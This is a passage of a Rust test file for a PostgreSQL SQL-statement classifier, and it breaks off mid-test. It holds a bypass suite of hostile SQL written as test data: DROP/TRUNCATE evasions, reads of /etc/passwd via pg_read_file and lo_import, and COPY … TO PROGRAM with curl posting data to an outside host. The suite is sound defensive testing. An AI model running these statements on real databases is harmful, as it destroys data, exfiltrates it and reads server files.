use crate::{classify, strictest, Class, Statement, MAX_SQL_BYTES};
use Class::*;

fn one(sql: &str) -> Statement {
    let c = classify(sql);
    assert_eq!(c.statements.len(), 1, "{sql:?} → {:#?}", c.statements);
    c.statements
        .into_iter()
        .next()
        .unwrap_or_else(|| unreachable!())
}

fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v
}

/// `(sql, class of the whole string, a reason that must be among the statements' reasons)`.
/// Every case is a way someone could try to slip a statement past the gate.
const BYPASS: &[(&str, Class, &str)] = &[
    // comments and casing
    ("dRoP tAbLe t", Dangerous, "DROP TABLE"),
    ("/* hi */ DROP TABLE t", Dangerous, "DROP TABLE"),
    ("DROP/**/TABLE/**/t", Dangerous, "DROP TABLE"),
    ("-- comment\nDROP TABLE t", Dangerous, "DROP TABLE"),
    ("/* outer /* nested */ still a comment */ DROP TABLE t", Dangerous, "DROP TABLE"),
    ("SELECT 1 -- ; not a statement\n; DROP TABLE t", Dangerous, "DROP TABLE"),
    ("tRuNcAtE TaBlE t", Dangerous, "TRUNCATE"),
    ("delete/* x */from t", Dangerous, "DELETE without WHERE"),
    ("UPDATE t SET a = 1 -- WHERE id = 1", Dangerous, "UPDATE without WHERE"),
    // quoted identifiers
    ("DROP TABLE \"Users\"", Dangerous, "DROP TABLE"),
    ("DELETE FROM \"public\".\"t\"", Dangerous, "DELETE without WHERE"),
    ("DROP TABLE \"drop\"", Dangerous, "DROP TABLE"),
    // multiple statements in one string
    ("SELECT 1; DROP TABLE t", Dangerous, "DROP TABLE"),
    ("SELECT 1;DROP TABLE t;", Dangerous, "DROP TABLE"),
    ("BEGIN; DELETE FROM t; COMMIT", Dangerous, "DELETE without WHERE"),
    ("SELECT 'a;'; TRUNCATE t", Dangerous, "TRUNCATE"),
    ("SELECT $$;$$; DROP SCHEMA s CASCADE", Dangerous, "DROP SCHEMA"),
    // trivially true WHERE clauses
    ("DELETE FROM t WHERE true", Dangerous, "DELETE with a WHERE that references no column"),
    ("DELETE FROM t WHERE 1 = 1", Dangerous, "DELETE with a WHERE that references no column"),
    ("UPDATE t SET a = 1 WHERE 'x' = 'x'", Dangerous, "UPDATE with a WHERE that references no column"),
    // DO blocks, however quoted
    ("DO $$BEGIN DELETE FROM t WHERE id = 1; END$$", Dangerous, "DO block"),
    ("DO $body$ BEGIN PERFORM 1; END $body$", Dangerous, "DO block"),
    ("do language plpgsql $x$ begin null; end $x$", Dangerous, "DO block"),
    ("DO 'BEGIN NULL; END'", Dangerous, "DO block"),
    ("SELECT 1; DO $a$ BEGIN EXECUTE 'DROP TABLE t'; END $a$", Dangerous, "DO block"),
    // WITH queries that modify
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Dangerous, "DELETE without WHERE in a WITH query"),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", Dangerous, "UPDATE without WHERE in a WITH query"),
    ("WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING 1) INSERT INTO x SELECT * FROM d", Dangerous, "DELETE without WHERE in a WITH query"),
    ("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d) s", Dangerous, "DELETE without WHERE in a WITH query"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", Dangerous, "DELETE without WHERE"),
    // prepared statements
    ("PREPARE p AS DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("PREPARE p (int) AS UPDATE t SET a = $1", Dangerous, "UPDATE without WHERE"),
    ("EXECUTE p", Unknown, "EXECUTE of a prepared statement (the adapter resolves it)"),
    ("EXECUTE p(1, 'x')", Unknown, "EXECUTE of a prepared statement (the adapter resolves it)"),
    ("EXPLAIN ANALYZE EXECUTE p", Unknown, "EXECUTE of a prepared statement (the adapter resolves it)"),
    ("CREATE TABLE x AS EXECUTE p", Unknown, "EXECUTE of a prepared statement (the adapter resolves it)"),
    // dangerous functions in every position
    ("SELECT pg_terminate_backend(123)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT * FROM pg_terminate_backend(123)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT 1 FROM pg_stat_activity WHERE pg_terminate_backend(pid)", Dangerous, "calls pg_terminate_backend"),
    ("WITH x AS (SELECT pg_cancel_backend(1)) SELECT * FROM x", Dangerous, "calls pg_cancel_backend"),
    ("SELECT (SELECT pg_reload_conf())", Dangerous, "calls pg_reload_conf"),
    ("SELECT 1 ORDER BY pg_rotate_logfile()", Dangerous, "calls pg_rotate_logfile"),
    ("SELECT 1 GROUP BY pg_rotate_logfile()", Dangerous, "calls pg_rotate_logfile"),
    ("SELECT 1 HAVING pg_reload_conf()", Dangerous, "calls pg_reload_conf"),
    ("SELECT 1 LIMIT (SELECT length(pg_read_file('/etc/passwd')))", Dangerous, "calls pg_read_file (server file system)"),
    ("SELECT 1 OFFSET length(pg_read_binary_file('x'))", Dangerous, "calls pg_read_binary_file (server file system)"),
    ("VALUES (pg_terminate_backend(1))", Dangerous, "calls pg_terminate_backend"),
    ("INSERT INTO t VALUES (lo_import('/etc/passwd'))", Dangerous, "calls lo_import (server file system)"),
    ("UPDATE t SET a = pg_read_file('x') WHERE id = 1", Dangerous, "calls pg_read_file (server file system)"),
    ("DELETE FROM t WHERE id = pg_cancel_backend(1)::int", Dangerous, "calls pg_cancel_backend"),
    ("SELECT * FROM a JOIN b ON pg_terminate_backend(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT CASE WHEN true THEN pg_terminate_backend(1) END", Dangerous, "calls pg_terminate_backend"),
    ("SELECT count(*) FILTER (WHERE pg_cancel_backend(1)) FROM t", Dangerous, "calls pg_cancel_backend"),
    ("SELECT sum(x) OVER (ORDER BY pg_cancel_backend(1)) FROM t", Dangerous, "calls pg_cancel_backend"),
    ("SELECT abs(pg_terminate_backend(1)::int)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT 1 UNION SELECT pg_terminate_backend(1)::int", Dangerous, "calls pg_terminate_backend"),
    ("SELECT * FROM t, LATERAL (SELECT pg_terminate_backend(t.pid)) x", Dangerous, "calls pg_terminate_backend"),
    ("SELECT ARRAY[pg_terminate_backend(1)]", Dangerous, "calls pg_terminate_backend"),
    ("SELECT coalesce(null, pg_terminate_backend(1))", Dangerous, "calls pg_terminate_backend"),
    ("SELECT 1 WHERE EXISTS (SELECT pg_stat_file('x'))", Dangerous, "calls pg_stat_file (server file system)"),
    ("SELECT * FROM pg_ls_dir('.')", Dangerous, "calls pg_ls_dir (server file system)"),
    ("SELECT * FROM pg_ls_waldir()", Dangerous, "calls pg_ls_waldir (server file system)"),
    ("SELECT lo_export(1, '/tmp/x')", Dangerous, "calls lo_export (server file system)"),
    ("CALL pg_terminate_backend(1)", Dangerous, "calls pg_terminate_backend"),
    // attribute notation: PostgreSQL runs `(x).f` as `f(x)` for one-argument functions
    ("SELECT ('/etc/passwd'::text).pg_read_file", Dangerous, "calls pg_read_file (server file system)"),
    ("SELECT (pid).pg_terminate_backend FROM pg_stat_activity", Dangerous, "calls pg_terminate_backend"),
    ("SELECT ((1)).\"PG_CANCEL_BACKEND\"", Dangerous, "calls pg_cancel_backend"),
    ("SELECT (arr[1]).dblink_exec FROM t", Dangerous, "calls dblink_exec (connects to another server)"),
    ("SELECT a.b.pg_ls_dir FROM a", Dangerous, "calls pg_ls_dir (server file system)"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT \"pg_terminate_backend\"(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT \"pg_catalog\".\"pg_terminate_backend\"(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT PG_TERMINATE_BACKEND(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT \"PG_Terminate_Backend\"(1)", Dangerous, "calls pg_terminate_backend"),
    ("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(x int)", Dangerous, "calls dblink (connects to another server)"),
    ("SELECT dblink_exec('DROP TABLE t')", Dangerous, "calls dblink_exec (connects to another server)"),
    ("SELECT query_to_xml('select pg_terminate_backend(1)', true, false, '')", Dangerous, "calls query_to_xml (runs SQL given as text)"),
    ("SELECT set_config('role', 'postgres', false)", Dangerous, "calls set_config('role')"),
    ("SELECT set_config('ROLE', 'postgres', false)", Dangerous, "calls set_config('role')"),
    ("SELECT set_config('session_authorization', 'x', false)", Dangerous, "calls set_config('session_authorization')"),
    ("SELECT set_config('ro' || 'le', 'x', false)", Dangerous, "calls set_config with a computed setting name"),
    ("SELECT pg_catalog.set_config($1, 'x', false)", Dangerous, "calls set_config with a computed setting name"),
    ("EXPLAIN SELECT pg_terminate_backend(1)", Dangerous, "calls pg_terminate_backend"),
    ("CREATE VIEW v AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Dangerous, "calls pg_terminate_backend"),
    ("CREATE OPERATOR !!! (FUNCTION = pg_terminate_backend, RIGHTARG = int)", Dangerous, "references pg_terminate_backend"),
    ("CREATE CAST (int AS bool) WITH FUNCTION pg_terminate_backend(int)", Dangerous, "references pg_terminate_backend"),
    // functions whose SQL body does something dangerous
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", Dangerous, "function body: DELETE without WHERE"),
    ("CREATE OR REPLACE FUNCTION f() RETURNS bool AS $$ SELECT pg_terminate_backend(1) $$ LANGUAGE SQL", Dangerous, "function body: calls pg_terminate_backend"),
    ("CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM t; END", Dangerous, "DELETE without WHERE in a nested statement"),
    ("CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE u SET n = 0", Dangerous, "UPDATE without WHERE in a nested statement"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'", Unknown, "function body: parse error: syntax error"),
    // COPY … PROGRAM
    ("COPY t TO PROGRAM 'curl -d @- http://x'", Dangerous, "COPY … TO PROGRAM"),
    ("COPY t FROM PROGRAM 'cat /etc/passwd'", Dangerous, "COPY … FROM PROGRAM"),
    ("COPY (SELECT 1) TO PROGRAM 'sh'", Dangerous, "COPY … TO PROGRAM"),
    ("copy t from program $$id$$", Dangerous, "COPY … FROM PROGRAM"),
    // identity changes
    ("SET ROLE admin", Admin, "SET ROLE"),
    ("set role none", Admin, "SET ROLE"),
    ("SET LOCAL ROLE admin", Admin, "SET ROLE"),
    ("SET SESSION ROLE admin", Admin, "SET ROLE"),
    ("SET \"role\" TO admin", Admin, "SET ROLE"),
    ("SET \"Role\" TO admin", Admin, "SET ROLE"),
    ("RESET ROLE", Admin, "RESET ROLE"),
    ("set session authorization 'postgres'", Admin, "SET SESSION AUTHORIZATION"),
    ("SET SESSION AUTHORIZATION DEFAULT", Admin, "SET SESSION AUTHORIZATION"),
    ("RESET SESSION AUTHORIZATION", Admin, "RESET SESSION AUTHORIZATION"),
    ("SET session_replication_role = replica", Admin, "SET session_replication_role (turns off triggers and foreign keys)"),
    ("SELECT 1; SET ROLE admin; SELECT 2", Admin, "SET ROLE"),
    // roles and privileges
    ("CREATE ROLE r LOGIN", Dangerous, "CREATE ROLE"),
    ("CREATE USER u WITH PASSWORD 'x'", Dangerous, "CREATE USER"),
    ("CREATE GROUP g", Dangerous, "CREATE GROUP"),
    ("ALTER ROLE r SUPERUSER", Dangerous, "ALTER ROLE"),
    ("ALTER USER u WITH PASSWORD 'x'", Dangerous, "ALTER ROLE"),
    ("ALTER GROUP g ADD USER u", Dangerous, "ALTER ROLE"),
    ("ALTER ROLE r SET search_path = x", Dangerous, "ALTER ROLE"),
    ("ALTER ROLE r RENAME TO s", Dangerous, "ALTER ROLE … RENAME"),
    ("DROP ROLE r", Dangerous, "DROP ROLE"),
    ("DROP USER IF EXISTS u", Dangerous, "DROP ROLE"),
    ("GRANT SELECT ON t TO public", Dangerous, "GRANT"),
    ("REVOKE ALL ON t FROM u", Dangerous, "REVOKE"),
    ("GRANT admin TO u", Dangerous, "GRANT role membership"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", Dangerous, "ALTER DEFAULT PRIVILEGES"),
    ("ALTER TABLE t OWNER TO u", Dangerous, "ALTER TABLE … OWNER TO"),
    ("ALTER SCHEMA s OWNER TO u", Dangerous, "ALTER SCHEMA … OWNER TO"),
    ("REASSIGN OWNED BY a TO b", Dangerous, "REASSIGN OWNED"),
    ("CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO public", Dangerous, "GRANT"),
    ("ALTER SYSTEM SET shared_buffers = '1GB'", Dangerous, "ALTER SYSTEM"),
    ("alter system reset all", Dangerous, "ALTER SYSTEM"),
    // other ways to destroy data
    ("DROP INDEX i", Dangerous, "DROP INDEX"),
    ("DROP VIEW v", Dangerous, "DROP VIEW"),
    ("DROP MATERIALIZED VIEW v", Dangerous, "DROP MATERIALIZED VIEW"),
    ("DROP FUNCTION f(int)", Dangerous, "DROP FUNCTION"),
    ("DROP EXTENSION dblink", Dangerous, "DROP EXTENSION"),
    ("DROP DATABASE d", Dangerous, "DROP DATABASE"),
    ("DROP TABLESPACE ts", Dangerous, "DROP TABLESPACE"),
    ("DROP OWNED BY u", Dangerous, "DROP OWNED"),
    ("ALTER TABLE t DROP COLUMN c", Dangerous, "ALTER TABLE … DROP COLUMN"),
    ("EXPLAIN ANALYZE DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1", Dangerous, "UPDATE without WHERE"),
    ("EXPLAIN (ANALYZE on) DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("EXPLAIN (analyze 'true', verbose) DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("EXPLAIN (\"ANALYZE\") DELETE FROM t", Dangerous, "DELETE without WHERE"),
    ("EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT pg_read_file('x')", Dangerous, "calls pg_read_file (server file system)"),
    // unparseable input fails closed
    ("SELEC 1", Unknown, "parse error: syntax error"),
    ("DROP TABLE t; SELEC 1", Unknown, "parse error: syntax error"),
    ("SELECT 'unterminated", Unknown, "parse error: unterminated quoted string"),
    ("/* unterminated comment DROP TABLE t", Unknown, "parse error: unterminated /* comment"),
    ("\u{0}DROP TABLE t", Unknown, "input contains a NUL byte"),
];

#[test]
fn bypass_suite_is_caught() {
    let mut failures = Vec::new();
    for (sql, class, reason) in BYPASS {
        let c = classify(sql);
        let got = c.strictest();
        let reasons: Vec<&String> = c.statements.iter().flat_map(|s| &s.reasons).collect();
        if got != Some(*class) || !reasons.iter().any(|r| r.as_str() == *reason) {
            failures.push(format!(
                "{sql:?}: got {got:?} {reasons:?}, want {class:?} {reason:?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        BYPASS.len(),
        failures.join("\n")
    );
}

/// `(sql, class, command)` for the ordinary statements of each class.
const CLASSES: &[(&str, Class, &str)] = &[
    ("SELECT * FROM t WHERE id = 1", Read, "SELECT"),
    ("VALUES (1), (2)", Read, "SELECT"),
    ("TABLE t", Read, "SELECT"),
    ("SELECT * FROM t FOR UPDATE", Read, "SELECT"),
    ("SELECT nextval('s')", Read, "SELECT"),
    (
        "SELECT set_config('search_path', 'x', false)",
        Read,
        "SELECT",
    ),
    ("COPY t TO STDOUT", Read, "COPY"),
    (
        "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)",
        Read,
        "COPY",
    ),
    ("EXPLAIN SELECT * FROM t", Read, "EXPLAIN"),
    ("EXPLAIN DELETE FROM t", Read, "EXPLAIN"),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", Read, "EXPLAIN"),
    (
        "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t",
        Read,
        "EXPLAIN",
    ),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", Read, "EXPLAIN"),
    ("EXPLAIN (ANALYZE 'no') DELETE FROM t", Read, "EXPLAIN"),
    ("EXPLAIN ANALYZE SELECT 1", Read, "EXPLAIN"),
    (
        "DECLARE c CURSOR FOR SELECT * FROM t",
        Read,
        "DECLARE CURSOR",
    ),
    ("FETCH 10 FROM c", Read, "FETCH"),
    ("MOVE NEXT IN c", Read, "MOVE"),
    ("CLOSE c", Read, "CLOSE"),
    (
        "PREPARE q (int) AS SELECT * FROM t WHERE id = $1",
        Read,
        "PREPARE",
    ),
    ("SET search_path = app, public", Utility, "SET"),
    ("SET statement_timeout TO 1000", Utility, "SET"),
    ("RESET ALL", Utility, "RESET"),
    ("SHOW work_mem", Utility, "SHOW"),
    ("DISCARD ALL", Utility, "DISCARD"),
    ("LISTEN ch", Utility, "LISTEN"),
    ("UNLISTEN *", Utility, "UNLISTEN"),
    ("NOTIFY ch, 'x'", Utility, "NOTIFY"),
    ("DEALLOCATE ALL", Utility, "DEALLOCATE"),
    ("BEGIN", Transaction, "BEGIN"),
    (
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        Transaction,
        "START TRANSACTION",
    ),
    ("COMMIT", Transaction, "COMMIT"),
    ("END", Transaction, "COMMIT"),
    ("ROLLBACK", Transaction, "ROLLBACK"),
    ("ABORT", Transaction, "ROLLBACK"),
    ("SAVEPOINT a", Transaction, "SAVEPOINT"),
    ("RELEASE SAVEPOINT a", Transaction, "RELEASE"),
    ("ROLLBACK TO SAVEPOINT a", Transaction, "ROLLBACK"),
    (
        "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
        Transaction,
        "SET",
    ),
    (
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        Transaction,
        "SET",
    ),
    (
        "SET CONSTRAINTS ALL DEFERRED",
        Transaction,
        "SET CONSTRAINTS",
    ),
    ("INSERT INTO t (a) VALUES (1)", Write, "INSERT"),
    (
        "INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING",
        Write,
        "INSERT",
    ),
    ("UPDATE t SET a = 1 WHERE id = 2", Write, "UPDATE"),
    (
        "UPDATE t SET a = u.a FROM u WHERE t.id = u.id",
        Write,
        "UPDATE",
    ),
    ("DELETE FROM t WHERE id = $1", Write, "DELETE"),
    ("DELETE FROM t WHERE CURRENT OF c", Write, "DELETE"),
    ("DELETE FROM t USING u WHERE t.id = u.id", Write, "DELETE"),
    (
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a",
        Write,
        "MERGE",
    ),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        Write,
        "SELECT",
    ),
    ("SELECT * INTO t2 FROM t", Write, "SELECT"),
    ("COPY t FROM STDIN", Write, "COPY"),
    ("CALL p(1)", Write, "CALL"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Write, "LOCK TABLE"),
    (
        "REFRESH MATERIALIZED VIEW v",
        Write,
        "REFRESH MATERIALIZED VIEW",
    ),
    ("SELECT setval('s', 1)", Write, "SELECT"),
    ("EXPLAIN ANALYZE INSERT INTO t VALUES (1)", Write, "EXPLAIN"),
    ("CREATE TABLE t (id int primary key)", Ddl, "CREATE TABLE"),
    ("CREATE TABLE t2 AS SELECT * FROM t", Ddl, "CREATE TABLE"),
    (
        "CREATE MATERIALIZED VIEW v AS SELECT 1",
        Ddl,
        "CREATE MATERIALIZED VIEW",
    ),
    ("CREATE VIEW v AS SELECT * FROM t", Ddl, "CREATE VIEW"),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", Ddl, "CREATE INDEX"),
    ("ALTER TABLE t ADD COLUMN c int", Ddl, "ALTER TABLE"),
    ("ALTER INDEX i RENAME TO j", Ddl, "ALTER INDEX"),
    ("ALTER TABLE t RENAME TO u", Ddl, "ALTER TABLE"),
    ("ALTER TABLE t RENAME COLUMN a TO b", Ddl, "ALTER TABLE"),
    ("ALTER VIEW v RENAME COLUMN a TO b", Ddl, "ALTER VIEW"),
    ("ALTER DATABASE d RENAME TO e", Admin, "ALTER DATABASE"),
    ("ALTER TABLESPACE ts RENAME TO u", Admin, "ALTER TABLESPACE"),
    ("COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        Ddl,
        "CREATE FUNCTION",
    ),
    ("CREATE SCHEMA s", Ddl, "CREATE SCHEMA"),
    ("CREATE SEQUENCE s", Ddl, "CREATE SEQUENCE"),
    ("CREATE TYPE mood AS ENUM ('a', 'b')", Ddl, "CREATE TYPE"),
    (
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        Ddl,
        "CREATE TRIGGER",
    ),
    ("VACUUM t", Admin, "VACUUM"),
    ("VACUUM FULL", Admin, "VACUUM"),
    ("ANALYZE t", Admin, "ANALYZE"),
    ("CLUSTER t USING i", Admin, "CLUSTER"),
    ("REINDEX TABLE t", Admin, "REINDEX"),
    ("CHECKPOINT", Admin, "CHECKPOINT"),
    ("LOAD 'auto_explain'", Admin, "LOAD"),
    ("CREATE EXTENSION pgcrypto", Admin, "CREATE EXTENSION"),
    ("ALTER EXTENSION pgcrypto UPDATE", Admin, "ALTER EXTENSION"),
    ("CREATE DATABASE d", Admin, "CREATE DATABASE"),
    (
        "ALTER DATABASE d SET work_mem = '1MB'",
        Admin,
        "ALTER DATABASE",
    ),
    ("COPY t FROM '/tmp/data.csv'", Admin, "COPY"),
    ("COPY t TO '/tmp/out.csv'", Admin, "COPY"),
    ("PREPARE TRANSACTION 'x'", Admin, "PREPARE TRANSACTION"),
    ("COMMIT PREPARED 'x'", Admin, "COMMIT PREPARED"),
    ("SELECT pg_switch_wal()", Admin, "SELECT"),
    ("SELECT pg_stat_reset()", Admin, "SELECT"),
    (
        "SELECT c.dblink_status, (r).pg_ls_logdir_x FROM conn c, t r",
        Read,
        "SELECT",
    ),
];

#[test]
fn ordinary_statements_get_their_class_and_command() {
    let mut failures = Vec::new();
    for (sql, class, command) in CLASSES {
        let s = one(sql);
        if s.class != *class || s.command != *command {
            failures.push(format!(
                "{sql:?}: got {:?} {:?} {:?}, want {class:?} {command:?}",
                s.class, s.command, s.reasons
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        CLASSES.len(),
        failures.join("\n")
    );
}

#[test]
fn every_class_above_transaction_says_why() {
    for (sql, class, _) in BYPASS.iter().chain(CLASSES) {
        if *class >= Write {
            for s in classify(sql).statements.iter().filter(|s| s.class >= Write) {
                assert!(!s.reasons.is_empty(), "{sql:?} has no reason");
            }
        }
    }
}

#[test]
fn multi_statement_strings_give_one_entry_per_statement_with_spans() {
    let sql = "  /* c */ SELECT 1; -- x\n  DROP TABLE t ;  INSERT INTO \"tâble\" VALUES ('é')";
    let c = classify(sql);
    let texts: Vec<&str> = c.statements.iter().map(|s| &sql[s.start..s.end]).collect();
    assert_eq!(
        texts,
        [
            "SELECT 1",
            "DROP TABLE t",
            "INSERT INTO \"tâble\" VALUES ('é')"
        ]
    );
    let classes: Vec<Class> = c.statements.iter().map(|s| s.class).collect();
    assert_eq!(classes, [Read, Dangerous, Write]);
    assert_eq!(c.strictest(), Some(Dangerous));
}

#[test]
fn empty_input_and_only_comments_have_no_statements() {
    for sql in [
        "",
        "   \n\t",
        "-- nothing",
        "/* a */ /* b */",
        ";",
        " ; ;; ",
        "/* x */ ; -- y",
    ] {
        let c = classify(sql);
        assert!(c.statements.is_empty(), "{sql:?} → {:?}", c.statements);
        assert_eq!(c.strictest(), None);
    }
}

#[test]
fn unparseable_input_is_one_unknown_statement_without_its_text() {
    let secret = "4111-1111-1111-1111";
    for sql in [
        format!("SELECT * FROM cards WHERE pan = {secret} garbage"),
        format!("SELECT '{secret}"),
        format!("SELECT 1; INSERT INTO x VALUES ('{secret}') )"),
        format!("SELECT \"{secret}"),
        format!("SELECT 1 FROM a.b.c.d.\"{secret}\""),
    ] {
        let s = one(&sql);
        assert_eq!(s.class, Unknown, "{sql}");
        assert_eq!((s.start, s.end), (0, sql.len()));
        assert_eq!(s.command, "UNKNOWN");
        assert_eq!(s.fingerprint, "");
        assert!(s.reasons[0].starts_with("parse error"), "{:?}", s.reasons);
        for r in &s.reasons {
            assert!(!r.contains("4111"), "reason leaks SQL text: {r}");
        }
    }
}

#[test]
fn deeply_nested_expressions_fail_closed() {
    let sql = format!("SELECT 1{}", " + 1".repeat(300));
    let s = one(&sql);
    assert_eq!(s.class, Unknown);
    assert_eq!(s.reasons, ["parse tree too deeply nested to classify"]);
    // nesting that is common in real queries stays well within the limit
    let sql = format!("SELECT 1{} FROM t", " + 1".repeat(40));
    assert_eq!(one(&sql).class, Read);
}

#[test]
fn long_input_is_bounded() {
    let many = "SELECT a, b FROM t WHERE id = 1;".repeat(5_000);
    let c = classify(&many);
    assert_eq!(c.statements.len(), 5_000);
    assert!(c.statements.iter().all(|s| s.class == Read));

    let ids: Vec<String> = (0..50_000).map(|i| i.to_string()).collect();
    let in_list = format!("DELETE FROM t WHERE id IN ({})", ids.join(","));
    assert_eq!(one(&in_list).class, Write);

    let huge = format!("SELECT '{}'", "x".repeat(MAX_SQL_BYTES));
    let s = one(&huge);
    assert_eq!(s.class, Unknown);
    assert!(
        s.reasons[0].contains("above the classifier's limit"),
        "{:?}",
        s.reasons
    );
    assert!(!s.reasons[0].contains("xxx"));
}

#[test]
fn unicode_identifiers_and_constants() {
    let s = one("SELECT 'héllo 🎉', \"naïve\" FROM \"tâble\" WHERE nom = 'Zoë'");
    assert_eq!(s.class, Read);
    assert_eq!(s.tables, ["\"tâble\""]);
    let s = one("DROP TABLE \"ünïcode\", ☃");
    assert_eq!(s.class, Dangerous);
    let s = one("DELETE FROM \"名前\"");
    assert_eq!(
        (s.class, s.tables.clone()),
        (Dangerous, vec!["\"名前\"".to_owned()])
    );
}

#[test]
fn fingerprint_ignores_whitespace_comments_and_constants() {
    let a = one("SELECT * FROM t WHERE id = 1");
    let b = one("select *  from t where id=2 -- c");
    let c = one("SELECT * FROM u WHERE id = 1");
    assert_eq!(a.fingerprint.len(), 16);
    assert!(a.fingerprint.bytes().all(|b| b.is_ascii_hexdigit()));
    assert_eq!(a.fingerprint, b.fingerprint);
    assert_ne!(a.fingerprint, c.fingerprint);
    // relations always count, with their schema and full name, whatever their alias
    let fp = |sql: &str| one(sql).fingerprint;
    assert_ne!(
        fp("SELECT * FROM public_data x"),
        fp("SELECT * FROM secrets x")
    );
    assert_ne!(fp("SELECT * FROM a.users"), fp("SELECT * FROM b.users"));
    assert_ne!(
        fp("SELECT * FROM orders_2024_01"),
        fp("SELECT * FROM orders_2024_02")
    );
    assert_eq!(
        fp("SELECT * FROM t x WHERE id = 1"),
        fp("SELECT * FROM t y WHERE id = 2")
    );
    // each statement of a multi-statement string gets its own fingerprint
    let m = classify("SELECT * FROM t WHERE id = 3; SELECT * FROM u WHERE id = 1");
    assert_eq!(m.statements[0].fingerprint, a.fingerprint);
    assert_eq!(m.statements[1].fingerprint, c.fingerprint);
}

#[test]
fn tables_include_ctes_subqueries_and_targets_but_not_cte_names() {
    let cases: &[(&str, &[&str])] = &[
        (
            "SELECT * FROM public.users u JOIN orders o ON o.uid = u.id",
            &["orders", "public.users"],
        ),
        (
            "SELECT * FROM a WHERE id IN (SELECT id FROM b)",
            &["a", "b"],
        ),
        (
            "SELECT (SELECT max(x) FROM c) FROM a, LATERAL (SELECT * FROM b) l",
            &["a", "b", "c"],
        ),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            &["t"],
        ),
        (
            "WITH a AS (SELECT * FROM x) SELECT * FROM a JOIN y ON true",
            &["x", "y"],
        ),
        // a non-recursive WITH query cannot see itself: the inner t is the table
        ("WITH t AS (SELECT * FROM t) SELECT * FROM t", &["t"]),
        (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
            &[],
        ),
        // the WITH inside the subquery does not hide the outer x
        (
            "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
            &["x"],
        ),
        // a write target is always a table, whatever the WITH names
        ("WITH t AS (SELECT 1) DELETE FROM t WHERE id = 1", &["t"]),
        ("WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t", &["t"]),
        (
            "INSERT INTO audit SELECT * FROM s.users",
            &["audit", "s.users"],
        ),
        ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", &["t", "u"]),
        (
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
            &["t", "u"],
        ),
        ("SELECT * INTO new_t FROM old_t", &["new_t", "old_t"]),
        ("DROP TABLE a, s.b", &["a", "s.b"]),
        ("TRUNCATE a, b", &["a", "b"]),
        ("CREATE TABLE n (id int)", &["n"]),
        ("CREATE INDEX i ON t (a)", &["t"]),
        ("ALTER TABLE t ADD COLUMN c int", &["t"]),
        ("COPY s.t FROM STDIN", &["s.t"]),
        (
            "COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT",
            &["a", "b"],
        ),
        ("LOCK TABLE a, b", &["a", "b"]),
        ("VACUUM a, b", &["a", "b"]),
        ("GRANT SELECT ON a TO u", &["a"]),
        ("PREPARE p AS SELECT * FROM a WHERE id = $1", &["a"]),
        ("EXPLAIN SELECT * FROM a", &["a"]),
        ("DECLARE c CURSOR FOR SELECT * FROM a", &["a"]),
        ("SELECT * FROM db.s.t", &["db.s.t"]),
        (
            "SELECT * FROM \"My Table\", \"a.b\", \"Q\"\"x\"",
            &["\"My Table\"", "\"Q\"\"x\"", "\"a.b\""],
        ),
        ("SELECT * FROM generate_series(1, 3)", &[]),
    ];
    for (sql, want) in cases {
